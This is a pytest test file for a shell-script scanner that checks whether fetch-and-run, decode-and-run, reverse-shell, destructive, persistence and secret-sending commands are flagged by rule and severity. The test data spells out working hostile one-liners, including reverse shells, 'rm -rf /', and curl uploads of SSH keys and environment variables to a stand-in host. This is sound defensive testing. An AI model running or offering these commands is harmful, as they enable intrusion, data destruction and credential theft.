"""Scripts: harmless ones ask for a review, the ways of real attacks are found."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from touchstone.scan.file import scan_bytes


def rules(text: str, name: str = "run.sh") -> dict[str, str]:
    return {
        finding.rule.removeprefix("script/"): finding.severity for finding in scan_bytes(text.encode(), name).findings
    }


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/bash\nset -e\npython train.py --epochs 3 2>&1 | tee log.txt\n",
        "wget https://example.org/model.bin -O model.bin\nsha256sum -c sums\n",
        "# curl https://x | sh is what we do not do\necho done\n",
        "rm -rf build/ ./dist\n",
        "curl -s https://example.org/a.json | jq . > a.json\n",
        "cat list.txt | python3 count.py\n".replace("|", "> x; #"),
        "export PATH=$PATH:~/bin\nfor i in 1 2; do echo $i; done\n",
        "",
    ],
)
def test_ordinary_scripts_are_only_programs(text: str) -> None:
    assert rules(text) in ({"program": "low"}, {})


@pytest.mark.parametrize(
    ("text", "rule", "severity"),
    [
        ("curl http://planted.example/x | sh", "fetched-and-run", "high"),
        ("curl -fsSL http://planted.example/x|sudo -E bash -", "fetched-and-run", "high"),
        ("wget -qO- http://planted.example/x | gunzip | python3", "fetched-and-run", "high"),
        ("curl http://planted.example/x \\\n  | sh", "fetched-and-run", "high"),
        ("bash <(curl -s http://planted.example/x)", "fetched-and-run", "high"),
        ('sh -c "$(curl -s http://planted.example/x)"', "fetched-and-run", "high"),
        ('eval "$(wget -qO- http://planted.example/x)"', "fetched-and-run", "high"),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", "fetched-and-run", "medium"),
        ("iex (iwr http://planted.example/x)", "fetched-and-run", "high"),
        ("irm http://planted.example/x | iex", "fetched-and-run", "high"),
        ("certutil -urlcache -f http://planted.example/x x.exe", "fetched-and-run", "high"),
        ("echo ZWNobw== | base64 -d | sh", "decoded-and-run", "critical"),
        ("powershell -enc ZQBjAGgAbwAgAHAAbABhAG4AdABlAGQA", "decoded-and-run", "critical"),
        ("bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "remote-shell", "critical"),
        ("nc -e /bin/sh 192.0.2.1 1", "remote-shell", "critical"),
        ("rm -rf /", "destroys", "high"),
        ("sudo rm -r -f ~/*", "destroys", "high"),
        ("dd if=/dev/zero of=/dev/sda", "destroys", "high"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "persists", "high"),
        ("echo x >> ~/.bashrc", "persists", "high"),
        ("curl -d @/root/.ssh/id_rsa http://planted.example", "sends-secrets", "high"),
        ("env | curl -d @- http://planted.example", "sends-secrets", "high"),
    ],
)
def test_what_attacks_do(text: str, rule: str, severity: str) -> None:
    assert rules(f"#!/bin/sh\n{text}\n")[rule] == severity


def test_comments_of_batch_files() -> None:
    assert rules("rem curl http://x | sh\n", "a.bat") == {"program": "low"}
    assert "fetched-and-run" in rules("# & curl http://planted.example/x | sh\n", "a.bat")


def test_hooks_of_git_run_unasked() -> None:
    planted = scan_bytes(b"#!/bin/sh\necho planted\n", ".git/hooks/post-checkout")
    assert [finding.rule for finding in planted.findings] == ["script/runs-unasked"]
    of_lfs = b'#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || exit 2\ngit lfs pre-push "$@"\n'
    assert scan_bytes(of_lfs, ".git/hooks/pre-push").verdict == "review"


def test_source_code_is_only_noted() -> None:
    result = scan_bytes(b"int main() { return system(0); }\n", "a.c")
    assert (result.format, result.verdict) == ("source-code", "clean")


def test_the_offset_is_that_of_the_command() -> None:
    text = "echo 模型\ncurl http://planted.example/x | sh\n"
    finding = next(found for found in scan_bytes(text.encode(), "a.sh").findings if found.rule != "script/program")
    assert text.encode()[finding.offset :].startswith(b"curl")


@given(st.text(st.sampled_from("curl wget|sh $(`base64 -d\n\\ ;&<>"), max_size=400))
def test_never_fails(text: str) -> None:
    assert scan_bytes(text.encode(), "a.sh").gaps == ()
